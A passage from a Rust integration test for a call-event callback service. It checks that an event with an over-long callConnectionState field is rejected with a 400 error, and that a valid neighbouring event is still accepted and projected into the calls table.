                b"abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789"
                    [(x % 62) as usize],
            )
        })
        .collect();
    let long = a2_state("long-state-1", "c-long-state", &state, T);
    let (status, code, message) = error_code(app.post_callback(long.to_string()).await).await;
    assert_eq!((status, code.as_str()), (400, "invalid_event"));
    assert_eq!(
        message,
        "event: field `data.callConnectionState` must be at most 1024 characters"
    );
    let neighbour = json!([b_tone("after-long-state", "c-neighbour", 1, "one", T)]);
    assert_eq!(app.post_callback(neighbour.to_string()).await.status(), 200);
    let deadline = std::time::Instant::now() + Duration::from_secs(10);
    loop {
        let queued = app.count_rows("projection_queue").await;
        if queued == 0 {
            break;
        }
        assert!(
            std::time::Instant::now() < deadline,
            "{queued} calls still queued for projection after 10 s"
        );
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    let calls: Vec<String> = sqlx::query_scalar("SELECT call_id FROM calls ORDER BY call_id")
        .fetch_all(&app.pool)
        .await
        .unwrap();
    assert_eq!(calls, ["c-neighbour"]);
}
